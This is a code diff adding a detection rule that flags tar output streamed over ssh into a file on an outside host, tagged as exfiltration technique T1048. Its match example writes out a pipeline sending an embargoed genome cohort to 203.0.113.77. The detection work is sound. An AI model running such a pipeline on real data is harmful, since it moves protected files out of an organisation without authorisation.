@@ -797,4 +797,38 @@ const imagesSent: CommandRule = {
   },
 };
 
-export const exfiltrationRules: readonly CommandRule[] = [imagesSent, secretsFilePosted, databaseExported, bucketToOthers, warehouseExport, httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish, serveFiles, mailCopied, crossAccountCopy, repositoryCopied];
+/** ssh's options that take a value: the host is the first other word. */
+const SSH_VALUED = /^-[bcDEeFIiJLlmOopQRSWw]$/;
+
+/**
+ * Packed files streamed over ssh into a file on a host outside (tar czf - dir | ssh -p 2222 u@203.0.113.77
+ * 'cat > cohort.tgz'): the files leave, as scp would send them (T1048). Inside the network, a host
+ * with no domain or an internal one, it is the same copy between one's machines that scp is.
+ */
+const sshStreamed: CommandRule = {
+  id: "exfiltration.ssh-stream",
+  tactic: TACTIC,
+  technique: "T1048",
+  names: ["ssh"],
+  match(inv, all, index) {
+    if (inv.name !== "ssh") return undefined;
+    const writer = previous(all, index);
+    if (writer === undefined || !PACKERS.has(writer.name)) return undefined;
+    let i = 0;
+    while (i < inv.args.length && inv.args[i]!.startsWith("-")) i += SSH_VALUED.test(inv.args[i]!) ? 2 : 1;
+    const host = inv.args[i]?.replace(/^[^@]*@/, "");
+    const remote = inv.args.slice(i + 1).join(" ");
+    if (host === undefined || !/\bcat\s*>|\bdd\b[^|]*\bof=|\btee\b|\btar\s+-?[a-z]*x/.test(remote)) return undefined;
+    const outside = isExternalHost(host) && !internalHost(host) && /\./.test(host) && !/^(?:10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/.test(host);
+    if (!outside) return undefined;
+    const sent = inputsOf(writer);
+    const action = { ...exfil(host, host, sent), capability: "exfiltrate" as const, scope: "tree" as const };
+    return { action, reason: `streams ${describe(sent, `the output of ${writer.name}`)} over ssh into a file on ${shown(host)}, a host outside: ${kind(action, "T1048")}` };
+  },
+  examples: {
+    match: [`tar czf - /lustre/heron/project/embargo-cohort-wgs | ssh -p 2222 sync@203.0.113.77 'cat > cohort.tgz'`],
+    noMatch: [`tar czf - ./site | ssh deploy@web01 'tar xzf - -C /var/www'`, `tar czf - data | ssh backup.internal 'cat > d.tgz'`, `echo hi | ssh 203.0.113.77 wall`],
+  },
+};
+
+export const exfiltrationRules: readonly CommandRule[] = [sshStreamed, imagesSent, secretsFilePosted, databaseExported, bucketToOthers, warehouseExport, httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish, serveFiles, mailCopied, crossAccountCopy, repositoryCopied];
